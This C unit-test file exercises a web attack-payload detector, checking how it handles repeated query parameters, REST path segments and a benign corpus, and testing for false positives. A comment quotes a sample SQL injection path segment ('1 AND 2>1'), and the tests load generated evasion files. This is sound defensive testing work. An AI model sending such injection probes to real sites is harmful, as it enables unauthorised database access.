static void pair_line(const char *l, size_t n, void *ctx)
{
	struct pairs *p = ctx;
	static char q[2 * 3 * 2048 + 16];
	struct payload_match m[PAYLOAD__COUNT];
	size_t w = 0, pl = strlen(p->prev);
	int k;

	if (n >= sizeof(p->prev))
		return;
	if (pl) {
		memcpy(q, "p=", 2);
		w = 2 + form_enc(p->prev, pl, q + 2);
		memcpy(q + w, "&p=", 3);
		w += 3;
		w += form_enc(l, n, q + w);
		k = payload_scan_query(q, w, PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT);
		/* a value flagged alone is not the join's doing */
		if (k && !payload_scan_query(q, strlen("p=") + form_enc(p->prev, pl, q + 2),
					     PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT) &&
		    !payload_scan(l, n, PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT)) {
			p->bad++;
			printf("    false positive when joined: %s | %s\n", p->prev, l);
		}
		p->total++;
	}
	memcpy(p->prev, l, n);
	p->prev[n] = '\0';
}

static void test_repeated_params_joined(void **st)
{
	(void)st;
	static const char *const benign[] = {
		"tags=red&tags=blue&tags=green", "ids=1&ids=2&ids=3", "q=select&q=union&q=cats",
		"sort=-date&sort=name", "filter=price>10&filter=price<20", "a=1&a=1",
		"color=it's red&color=it's blue", "from=1 or 2&from=3", "note=/*draft*/&note=final",
		"Note=/*draft&NOTE=final*/", "n%6Fte=/*a&note=b*/",
	};
	struct payload_match m[PAYLOAD__COUNT];
	struct qrate r = {0, 0};

	static struct pairs pr;

	assert_true(for_lines("tests/data/gen-evade-hpp.txt", hpp_line, &r) > 100);
	printf("  gen-evade-hpp: %d/%d as sqli\n", r.hit, r.total);
	assert_int_equal(r.hit, r.total);
	assert_true(for_lines("tests/data/benign.txt", pair_line, &pr) > 1500);
	printf("  benign.txt neighbours as one repeated parameter: %d pairs, %d flagged\n", pr.total,
	       pr.bad);
	assert_int_equal(pr.bad, 0);
	for (size_t i = 0; i < sizeof(benign) / sizeof(benign[0]); i++) {
		int k = payload_scan_query(benign[i], strlen(benign[i]), PAYLOAD_WHERE_QUERY, m,
					   PAYLOAD__COUNT);
		if (k)
			printf("    false positive [%s %d: %s]: %s\n", payload_kind_names[m[0].kind],
			       m[0].score, m[0].why, benign[i]);
		assert_int_equal(k, 0);
	}
}

/* A REST path's segment is a value: tools/gen-evade.py's paths with an
 * injected segment (/api/items/1%20AND%202%3E1/details) were 80/105 as
 * sqli when only the whole path was judged, 105/105 with each odd
 * segment judged too. Benign paths with quotes, blanks and brackets in a
 * segment stay quiet. */
static void segment_line(const char *l, size_t n, void *ctx)
{
	struct qrate *r = ctx;
	struct payload_match m[PAYLOAD__COUNT];
	int k = payload_scan(l, n, PAYLOAD_WHERE_PATH, m, PAYLOAD__COUNT), hit = 0;

	for (int i = 0; i < k; i++)
		hit |= m[i].kind == PAYLOAD_SQLI;
	r->total++;
	r->hit += hit;
}

static void test_path_segments_judged(void **st)
{
	(void)st;
	static const char *const benign[] = {
		"/wiki/O'Reilly_(publisher)", "/search/rock%20%26%20roll", "/api/items/42/details",
		"/docs/select%20a%20union", "/blog/2024/01/why-1-and-2-matter",
		"/files/report%20(final).pdf", "/tags/c%2B%2B", "/users/o%27brien/profile",
		"/p/1%20or%202%20items", "/shop/2%20and%203%20seat%20sofas",
	};
	struct payload_match m[PAYLOAD__COUNT];
	struct qrate r = {0, 0};

	assert_true(for_lines("tests/data/gen-evade-segment.txt", segment_line, &r) > 100);
	printf("  gen-evade-segment: %d/%d as sqli\n", r.hit, r.total);
	assert_int_equal(r.hit, r.total);
	for (size_t i = 0; i < sizeof(benign) / sizeof(benign[0]); i++) {
		int k = payload_scan(benign[i], strlen(benign[i]), PAYLOAD_WHERE_PATH, m, PAYLOAD__COUNT);
		if (k)
			printf("    false positive [%s %d: %s]: %s\n", payload_kind_names[m[0].kind],
			       m[0].score, m[0].why, benign[i]);
		assert_int_equal(k, 0);
	}
}

struct fp {
	int total, bad;
};

static void benign_line(const char *l, size_t n, void *ctx)
{
	struct fp *f = ctx;
	struct payload_match m[PAYLOAD__COUNT];
	int k = payload_scan(l, n, PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT);
	char js[4 * 8192];
	size_t w = 0;

	f->total++;
	if (k > 0) {
		f->bad++;
		printf("    false positive [%s %d: %s]: %s\n", payload_kind_names[m[0].kind], m[0].score,
		       m[0].why, l);
	}
	/* and as a JSON string, as detect_quality sends it: no form
	 * decoding there, so "2+2=4" keeps its plus */
	w += (size_t)snprintf(js, sizeof(js), "{\"comment\":\"");
	for (size_t i = 0; i < n && w + 16 < sizeof(js); i++) {
		unsigned char c = (unsigned char)l[i];
		if (c == '"' || c == '\\') {
			js[w++] = '\\';
			js[w++] = (char)c;
		} else if (c < 0x20) {
			w += (size_t)snprintf(js + w, 8, "\\u%04x", c);
		} else {
			js[w++] = (char)c;
		}
	}
	w += (size_t)snprintf(js + w, sizeof(js) - w, "\"}");
	k = payload_scan_json(js, w, m, PAYLOAD__COUNT);
	if (k > 0) {
		f->bad++;
		printf("    false positive in JSON [%s %d: %s]: %s\n", payload_kind_names[m[0].kind],
		       m[0].score, m[0].why, l);
	}
}

static void test_benign_corpus(void **st)
{
	(void)st;
	struct fp f = {0, 0};
	int n = for_lines("tests/data/benign.txt", benign_line, &f);
	assert_true(n >= 1500);
	printf("  benign corpus: %d values, %d false positives\n", f.total, f.bad);
	assert_int_equal(f.bad, 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_sqli_table),
		cmocka_unit_test(test_xss_table),
		cmocka_unit_test(test_traversal_table),
		cmocka_unit_test(test_cmdi_table),
		cmocka_unit_test(test_ssrf_table),
		cmocka_unit_test(test_jndi_ssti_table),
		cmocka_unit_test(test_evasions),
		cmocka_unit_test(test_match_fields),
		cmocka_unit_test(test_scan_query),
		cmocka_unit_test(test_repeated_params_joined),
		cmocka_unit_test(test_path_segments_judged),
		cmocka_unit_test(test_plus_as_blank),
		cmocka_unit_test(test_json_in_a_value),
		cmocka_unit_test(test_scan_json),
		cmocka_unit_test(test_scan_cookie),
		cmocka_unit_test(test_robust_inputs),
		cmocka_unit_test(test_repeat_scans_match_first),
		cmocka_unit_test(test_payload_rates),
		cmocka_unit_test(test_generated_tables),
		cmocka_unit_test(test_benign_corpus),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
